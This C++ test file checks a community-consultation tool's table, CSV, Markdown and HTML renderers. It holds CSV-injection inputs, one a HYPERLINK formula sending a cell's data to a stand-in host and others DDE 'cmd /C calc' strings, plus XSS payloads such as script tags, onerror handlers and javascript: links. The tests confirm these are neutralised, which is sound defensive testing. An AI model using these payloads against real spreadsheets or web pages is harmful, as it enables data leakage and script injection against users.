#include "consult/document.hpp"
#include "consult/render.hpp"

#include <doctest/doctest.h>

#include <string>
#include <utility>
#include <vector>

using namespace consult::render;

TEST_CASE("tables align Chinese text by display width") {
  Table t({{"ID", Align::right}, {"TITLE"}, {"PLACE"}});
  t.add_row({"1", "屋顶漏水", "3号楼"});
  t.add_row({"12", "parking", "B"});
  CHECK(t.to_text() == "ID  TITLE     PLACE\n"
                       " 1  屋顶漏水  3号楼\n"
                       "12  parking   B\n");
}

TEST_CASE("limited columns are cut with an ellipsis") {
  Table t({{"A", Align::left, 5}, {"B"}});
  t.add_row({"和平里社区居民", "x"});
  CHECK(t.to_text() == "A      B\n和平…  x\n");
}

TEST_CASE("cells are kept on one line") {
  Table t({{"A"}});
  t.add_row({"a\nb"});
  CHECK(t.to_text() == "A\na b\n");
}

TEST_CASE("csv quotes what must be quoted") {
  CHECK(csv_field("plain") == "plain");
  CHECK(csv_field("a,b") == "\"a,b\"");
  CHECK(csv_field("say \"hi\"") == "\"say \"\"hi\"\"\"");
  Table t({{"A"}, {"B"}});
  t.add_row({"1", "x,y"});
  CHECK(t.to_csv() == "A,B\r\n1,\"x,y\"\r\n");
}

TEST_CASE("key-value lines align their keys") {
  CHECK(key_values({{"Issue", "1"}, {"社区", "和平"}}) == "Issue: 1\n社区:  和平\n");
}

TEST_CASE("csv cells a spreadsheet would run are written as text, and read back") {
  // What a suggestion box can hold, as OWASP's CSV-injection cases list them.
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点我\"\")\""},
      {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
      {"-2+3", "'-2+3"},
      {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
      {"\t=1+1", "'\t=1+1"},
      {"\r=1+1", "\"'\r=1+1\""},
  };
  for (const auto& [cell, written] : cases) {
    CAPTURE(cell);
    CHECK(csv_field(cell) == written);
  }
  // Numbers stay numbers: a sign, thousands separators, decimals, percent.
  for (const std::string n : {"-5", "+86", "12.5%", "0"})
    CHECK(csv_field(n) == n);
  CHECK(csv_field("-1,234.50") == "\"-1,234.50\""); // quoted for its comma, not neutralised
  // Text that only contains such a character elsewhere is left alone.
  CHECK(csv_field("屋顶=漏水") == "屋顶=漏水");
  CHECK(csv_field("a-b") == "a-b");
  // Read back (consult's importer): the apostrophe it added comes off; one a
  // person typed before ordinary text stays.
  CHECK(unneutralise_csv("'=1+1") == "=1+1");
  CHECK(unneutralise_csv("'\t=1+1") == "\t=1+1");
  CHECK(unneutralise_csv("'-2+3") == "-2+3");
  CHECK(unneutralise_csv("'-5") == "'-5");
  CHECK(unneutralise_csv("'abc") == "'abc");
  CHECK(unneutralise_csv("=1+1") == "=1+1");
}

namespace {

consult::document::Stamp md_stamp() {
  consult::document::Stamp s;
  s.kind = "minutes";
  s.subject = "1";
  s.format = "md";
  s.at = "2026-12-03T10:00:00+08:00";
  s.seq = 7;
  s.hash = std::string(64, 'b');
  return s;
}

} // namespace

TEST_CASE("Markdown shows what residents wrote and runs none of it") {
  using consult::document::Block;
  using consult::document::markdown_text;
  // HTML, a script and an event handler become entities; links, images and
  // emphasis lose their brackets and stars to backslashes.
  CHECK(markdown_text("<script>alert(1)</script>") == "&lt;script&gt;alert(1)&lt;/script&gt;");
  CHECK(markdown_text("<img src=x onerror=alert(1)>") == "&lt;img src=x onerror=alert(1)&gt;");
  CHECK(markdown_text("[点我](javascript:alert(1))") == "\\[点我\\](javascript:alert(1))");
  CHECK(markdown_text("![x](data:image/png)") == "!\\[x\\](data:image/png)");
  CHECK(markdown_text("<javascript:alert(1)>") == "&lt;javascript:alert(1)&gt;");
  CHECK(markdown_text("a & b &lt;") == "a &amp; b &amp;lt;");
  CHECK(markdown_text("*急* _斜_ `码` ~~删~~ {: onclick=x} # | \\") ==
        "\\*急\\* \\_斜\\_ \\`码\\` &#126;&#126;删&#126;&#126; \\{: onclick=x\\} \\# \\| \\\\");
  CHECK(markdown_text("张*明\t3号楼") == "张\\*明 3号楼");
  CHECK(markdown_text("2026-11-20 1,234.50 (issue 8)") == "2026-11-20 1,234.50 (issue 8)");

  // A line of a paragraph cannot open a heading, a list, a quote, a table,
  // a heading's underline or a code block.
  Block p{Block::Kind::paragraph};
  p.text = "# 假标题\n- 列表\n+ 加\n1. 一\n2) 二\n> 引用\n| a | b |\n===\n    缩进\n\t制表";
  const auto md = consult::document::markdown({p}, md_stamp());
  CHECK(md.find("\\# 假标题  \n\\- 列表  \n\\+ 加  \n1\\. 一  \n2\\) 二  \n&gt; 引用  \n"
                "\\| a \\| b \\|  \n&#61;==  \n缩进  \n制表\n") == 0);
  CHECK(md.find("\"renderer\":5") != std::string::npos);

  // Headings stay on their line; cells keep their column; fields and
  // signatures are escaped too.
  Block t{Block::Kind::title, "标题\n# 第二行 <b>"};
  Block tab{Block::Kind::table};
  tab.header = {"姓名", "意见"};
  tab.rows = {{"王*", "同意 | 先修\n<img src=x>"}};
  Block f{Block::Kind::fields};
  f.rows = {{"<b>Chair</b>", "[x](javascript:y)"}};
  Block sig{Block::Kind::signatures};
  sig.rows = {{"<i>主持人</i>"}};
  const auto doc = consult::document::markdown({t, tab, f, sig}, md_stamp());
  CHECK(doc.find("# 标题 \\# 第二行 &lt;b&gt;\n\n") == 0);
  CHECK(doc.find("| 王\\* | 同意 \\| 先修<br>&lt;img src=x&gt; |") != std::string::npos);
  CHECK(doc.find("- **&lt;b&gt;Chair&lt;/b&gt;**: \\[x\\](javascript:y)") != std::string::npos);
  CHECK(doc.find("&lt;i&gt;主持人&lt;/i&gt;：") != std::string::npos);
  CHECK(doc.find("<img") == std::string::npos);
  CHECK(doc.find("<b>") == std::string::npos);
}

TEST_CASE("Markdown writer 1 is kept, as it was, for files it made") {
  using consult::document::Block;
  auto s = md_stamp();
  s.renderer = 1;
  Block p{Block::Kind::paragraph, "<b>x</b> [a](javascript:x)\n# 标题"};
  const auto md = consult::document::markdown({p}, s);
  CHECK(md.find("<b>x</b> [a](javascript:x)  \n\\# 标题\n\n---\n\n") == 0);
  CHECK(md.find("\"renderer\"") == std::string::npos); // its stamp as it always was
  const auto back = consult::document::read_stamp(md);
  REQUIRE(back.has_value());
  CHECK(back->renderer == 1);
  // consult writes no "renderer":1, nor a version that is not a whole number.
  for (const char* bad : {"1", "0", "2.5", "\"2\""}) {
    CAPTURE(bad);
    auto edited = md;
    edited.insert(edited.rfind("\"seq\""), std::string("\"renderer\":") + bad + ",");
    CHECK_FALSE(consult::document::read_stamp(edited).has_value());
  }
  // A new file names writer 5, in every format (people by recorded kind, phones and doors however
  // run on, a decision notice signed by the body that decided, a fund statement of one book).
  const auto again = consult::document::read_stamp(consult::document::markdown({p}, md_stamp()));
  REQUIRE(again.has_value());
  CHECK(again->renderer == 5);
  CHECK(consult::document::renderer_version("html") == 5);
  CHECK(consult::document::typed_persons(*again));
  auto old = *again;
  old.renderer = 1;
  CHECK_FALSE(consult::document::typed_persons(old));
}

TEST_CASE("HTML escapes what residents wrote") {
  using consult::document::Block;
  auto s = md_stamp();
  s.format = "html";
  Block t{Block::Kind::title, "<script>alert(1)</script>"};
  Block p{Block::Kind::paragraph, "<img src=x onerror=alert(1)>\n<a href=\"javascript:x\">点</a>"};
  Block tab{Block::Kind::table};
  tab.header = {"<th>"};
  tab.rows = {{"\"' onmouseover=x"}};
  const auto html = consult::document::html({t, p, tab}, s, "zh-CN");
  CHECK(html.find("<script") == std::string::npos);
  CHECK(html.find("<img") == std::string::npos);
  CHECK(html.find("<a ") == std::string::npos);
  CHECK(html.find("<title>&lt;script&gt;alert(1)&lt;/script&gt;</title>") != std::string::npos);
  CHECK(html.find("<p>&lt;img src=x onerror=alert(1)&gt;<br>&lt;a href=&quot;javascript:x&quot;&gt;"
                  "点&lt;/a&gt;</p>") != std::string::npos);
  CHECK(html.find("<td>&quot;' onmouseover=x</td>") != std::string::npos);
  // Writer 2 of HTML: people by their recorded kind.
  CHECK(html.find("\"renderer\":5") != std::string::npos);
}
